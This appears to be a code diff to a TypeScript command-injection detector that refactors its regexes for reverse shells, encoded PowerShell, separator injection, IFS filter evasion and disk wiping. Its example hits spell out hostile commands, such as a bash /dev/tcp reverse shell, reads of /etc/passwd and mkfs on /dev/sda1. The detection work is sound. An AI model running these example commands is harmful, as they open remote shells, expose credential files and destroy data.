@@ -93,8 +93,7 @@ export const COMMAND_SIGNS = signsOf("command-injection", [
     weight: 4,
     explanation: "hands an encoded command to a shell of Windows",
     keywords: ["powershell", "pwsh"],
-    look:
-      /(?:powershell|pwsh)(?:\.exe)?\s(?:[^\n;|]{0,80}?\s)?-e(?:nc|c|ncodedcommand)?\s{1,3}["']?[A-Za-z0-9+/=]{16}/iy,
+    look: inCommand(/\s-e(?:nc|c|ncodedcommand)?\s{1,3}["']?[A-Za-z0-9+\/=]{16}/i),
     examples: {
       hits: [
         "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi",
@@ -125,8 +124,7 @@ export const COMMAND_SIGNS = signsOf("command-injection", [
       "fsockopen(",
       "socat ",
     ],
-    look:
-      /\/dev\/(?:tcp|udp)\/[\w.$-]|(?<![\w-])(?:nc|ncat|netcat|nc\.\w{3,11})\s[^\n;|]{0,80}?(?:-[a-z]{0,4}e\b|-c\s|--exec\b|--sh-exec\b)|(?<!\w)(?:ba|z|k)?sh -i\b[^\n]{0,8}[>&|]|mkfifo\s[^\n]{1,80}(?:nc|ncat|sh|telnet)\b|pty\.spawn\s{0,2}\(|fsockopen\([^\n]{0,60}(?:exec|sh)|socat\s[^\n;]{0,80}exec:/iy,
+    look: reverseShell,
     examples: {
       hits: [
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
@@ -142,7 +140,8 @@ export const COMMAND_SIGNS = signsOf("command-injection", [
     id: "injected-separator",
     weight: 3,
     explanation: "begins with the end of somebody else's command",
-    keywords: [";", "&&", "||", "|", "\n", "`", "$(", "&", "'", '"'],
+    keywords: [],
+    atStart: true,
     look: injectedSeparator,
     examples: {
       hits: [
@@ -171,7 +170,8 @@ export const COMMAND_SIGNS = signsOf("command-injection", [
     id: "trailing-separator-command",
     weight: 3,
     explanation: "a name or an address with a command behind it",
-    keywords: [";", "|", "&&", "`", "$("],
+    keywords: [],
+    atStart: true,
     look: trailingCommand,
     examples: {
       hits: [
@@ -199,7 +199,7 @@ export const COMMAND_SIGNS = signsOf("command-injection", [
     weight: 4,
     explanation: "writes a blank so that a filter does not see it",
     keywords: ["$ifs", "${ifs", "{cat,", "{ls,", "{curl,", "{wget,"],
-    look: /(?<=[\w"';|&])\$\{?IFS\b|\{(?:cat|ls|curl|wget),[^\s}]{1,80}\}/iy,
+    look: /(?<=[\w"';|&])\$\{?IFS\b|\{(?:cat|ls|curl|wget),[^\s{}]{1,80}\}/iy,
     examples: {
       hits: ["cat${IFS}/etc/passwd", "cat$IFS$9/etc/hosts", ";{cat,/etc/passwd}"],
       misses: ["while IFS= read -r line", "OLD=$IFS", "{cat, dog}", 'echo "x" $IFS'],
@@ -228,8 +228,9 @@ export const COMMAND_SIGNS = signsOf("command-injection", [
       "delete shadows",
       "cipher /w",
     ],
-    look:
-      /mkfs(?:\.\w{2,6})?\s[^\n]{0,40}\/dev\/|(?:of=|>\s?)\/dev\/(?:sd|hd|vd|nvme|xvd|mmcblk|disk|mem)|wipefs\s[^\n]{0,20}\/dev\/|shred\s[^\n]{0,40}\/dev\/|format c:|delete shadows|cipher \/w/iy,
+    look: inCommand(
+      /mkfs(?:\.\w{2,6})?\s[^\n]{0,40}\/dev\/|(?:of=|>\s?)\/dev\/(?:sd|hd|vd|nvme|xvd|mmcblk|disk|mem)|wipefs\s[^\n]{0,20}\/dev\/|shred\s[^\n]{0,40}\/dev\/|format c:|delete shadows|cipher \/w/i,
+    ),
     examples: {
       hits: [
         "mkfs.ext4 /dev/sda1",
@@ -246,10 +247,9 @@ const LEADING_REGEXP =
   /\s{0,8}["')]{0,2}\s{0,2}(?:;|&&?|\|\|?|`|\$\(|\n)\s{0,4}(?:sudo\s{1,3})?(?:\/\w{1,8}\/(?:\w{1,8}\/)?)?(?:cat|ls|id|whoami|uname|env|printenv|curl|wget|nc|ncat|ping|rm|cp|mv|sh|bash|python\d?|perl|php|ruby|powershell|cmd|dir|type|net|nslookup|dig|sleep|echo|touch|chmod|chown|kill|reboot|shutdown|telnet|ssh|scp|find|grep|head|tail|passwd|useradd|crontab|ps|ifconfig|ip|hostname|ipconfig|systeminfo|tasklist)\b(?!["'=:.(-]|[ ]?[|,])/iy;
 
 /** Only at the beginning of the text: a command of several parts is everyday work. */
-function injectedSeparator(text: string, start: number) {
-  if (start > 12 || text.slice(0, start).trim() !== "") return Infinity;
+function injectedSeparator(text: string) {
   LEADING_REGEXP.lastIndex = 0;
-  if (!LEADING_REGEXP.test(text) || /^\s*\n/.test(text)) return start + 1;
+  if (!LEADING_REGEXP.test(text) || /^\s{0,8}\n/.test(text)) return Infinity;
   return { start: 0, end: LEADING_REGEXP.lastIndex };
 }
 
@@ -258,8 +258,22 @@ const NAME_LENGTH = 120;
 const TRAILING_REGEXP =
   /^(?!(?:ls|pwd|make|cd|clear|date|id|env|sync|true|false|exit|set|history|whoami|top|ps|df|du|git|npm|yarn|pnpm|cargo|go|build|test|run|cls)\b)[\w.@:/\\-]{1,120}(?:\s?;\s{0,2}|\s?&&\s{0,2}|\|(?!\s)|\$\((?=[a-z]{2,8}[\s)])|`)(?:cat|id|whoami|uname|env|printenv|curl|wget|nc|ncat|rm|sleep|ping|sh|bash|python\d?|perl|nslookup)(?:\b(?![\w.=:-])|\)|`)/i;
 
-function trailingCommand(text: string, start: number) {
-  if (start === 0 || start > NAME_LENGTH) return Infinity;
+function trailingCommand(text: string) {
   const at = TRAILING_REGEXP.exec(text.slice(0, NAME_LENGTH * 2));
   return at === null ? Infinity : { start: 0, end: at[0].length };
+}
+
+const SHELL_OUT_REGEXP =
+  /\/dev\/(?:tcp|udp)\/[\w.$-]|(?<!\w)(?:ba|z|k)?sh -i\b[^\n]{0,8}[>&|]|pty\.spawn\s{0,2}\(/iy;
+const IN_SHELL_COMMAND = inCommand(
+  /^(?:nc|ncat|netcat|nc\.\w{3,11})(?=\s).*?(?:\s-[a-z]{0,4}e\b|\s-c\s|--exec\b|--sh-exec\b)|^mkfifo\s.*(?:nc|ncat|sh|telnet)\b|^fsockopen\(.*(?:exec|sh)|^socat\s.*exec:/i,
+);
+
+function reverseShell(text: string, start: number) {
+  SHELL_OUT_REGEXP.lastIndex = start;
+  if (SHELL_OUT_REGEXP.test(text)) return { start, end: SHELL_OUT_REGEXP.lastIndex };
+  if (!/[\w-]/.test(text.charAt(start - 1)) && /[nmf]|so/i.test(text.slice(start, start + 2))) {
+    return IN_SHELL_COMMAND(text, start);
+  }
+  return start + 1;
 }
